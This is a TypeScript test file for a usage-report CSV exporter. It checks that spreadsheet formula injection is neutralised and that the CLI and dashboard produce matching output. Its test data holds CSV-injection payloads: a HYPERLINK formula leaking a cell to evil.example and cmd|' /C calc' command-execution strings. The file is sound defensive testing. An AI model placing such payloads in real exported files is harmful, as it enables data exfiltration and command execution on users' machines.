import { describe, expect, it } from "vitest";
import type { UsageSummaryRow } from "../../src/ledger/index.ts";
import { formatUsage } from "../../src/cli/commands/usage.ts";
import { csvCell, toCsv, usageCsv } from "../../src/dashboard/csv.ts";

/** RFC 4180 reader, written here apart from the writer: what a spreadsheet would read. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i] as string;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += ch;
  }
  return rows;
}

/** What Excel, LibreOffice and Google Sheets treat as a formula when a cell starts with it. */
const FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"];

describe("CSV formula guard (OWASP CSV injection)", () => {
  const attacks = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "-1+1",
    "-2-3",
    "-1e3+1",
    "-0x1",
    "-",
    "--1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "  +1",
    "\uFF1D1+1",
    "\uFF0B1",
    "\uFF0D1+1",
    "\uFF20SUM(A1)",
    "=cmd|' /C calc'!A0,\"x\"",
  ];
  it.each(attacks)("%j reads back as text behind an apostrophe", (value) => {
    const [[read]] = readCsv(toCsv([[value]])) as [[string]];
    expect(read).toBe(`'${value}`);
  });

  it("no cell read back starts a formula", () => {
    const cells = readCsv(toCsv([attacks]))[0] ?? [];
    expect(cells).toHaveLength(attacks.length);
    for (const c of cells) expect(FORMULA_STARTS.some((s) => c.startsWith(s))).toBe(false);
  });

  it.each(["0", "12", "-12", "-0.5", "0.004200", "5000.000000"])("the number %j stays a number", (value) => {
    expect(csvCell(value)).toBe(value);
  });

  it("plain text is unchanged; quotes, commas and line breaks are quoted", () => {
    expect(csvCell("claude-sonnet-4-5")).toBe("claude-sonnet-4-5");
    expect(csvCell("(no team)")).toBe("(no team)");
    expect(csvCell('a "b", c')).toBe('"a ""b"", c"');
    expect(readCsv(toCsv([["x\r\ny", 'q"']]))).toEqual([["x\r\ny", 'q"']]);
  });
});

const rows: UsageSummaryRow[] = [
  { keys: { day: undefined, provider: "openai", model: "gpt-5", caller: undefined, team: undefined }, requests: 3, inputTokens: 100, outputTokens: 20, cacheReadTokens: 5, cacheWriteTokens: 1, reasoningTokens: 7, costUsd: 0.0042, errors: 1 },
  { keys: { day: undefined, provider: "compat", model: "-1+cmd|' /C calc'!A0", caller: undefined, team: "eng" }, requests: 1, inputTokens: 1, outputTokens: 2, cacheReadTokens: 0, cacheWriteTokens: 0, reasoningTokens: 0, costUsd: 5000, errors: 0 },
];

describe("one usage CSV for the dashboard and the CLI", () => {
  it("`gatehouse usage --format csv` is the dashboard's writer: same columns, guard and (no team)", () => {
    expect(formatUsage(rows, ["team"], "csv")).toBe(usageCsv(rows, ["team"]));
    expect(formatUsage(rows, ["provider", "model"], "csv")).toBe(usageCsv(rows, ["provider", "model"]));
    const read = readCsv(formatUsage(rows, ["team", "model"], "csv"));
    expect(read).toEqual([
      ["team", "model", "requests", "input_tokens", "output_tokens", "cache_read_tokens", "cache_write_tokens", "reasoning_tokens", "cost_usd", "errors", "cache_hit_rate", "unpriced_requests"],
      ["(no team)", "gpt-5", "3", "100", "20", "5", "1", "7", "0.004200", "1", "0.0472", "0"],
      ["eng", "'-1+cmd|' /C calc'!A0", "1", "1", "2", "0", "0", "0", "5000.000000", "0", "0.0000", "0"],
    ]);
  });

  it("the CLI table uses the same column names and (no team)", () => {
    const table = formatUsage(rows, ["team"], "table");
    expect(table.split("\n")[0]).toMatch(/^team\s+requests\s+input_tokens\s+output_tokens\s+cache_read_tokens\s+cache_write_tokens\s+reasoning_tokens\s+cost_usd\s+errors\s+cache_hit_rate\s+unpriced_requests\s+estimated_usd$/);
    expect(table).toMatch(/^\(no team\)\s+3\s+100\s/m);
    expect(table).toContain("Total cost: $5,000.00 over 4 requests");
  });
});
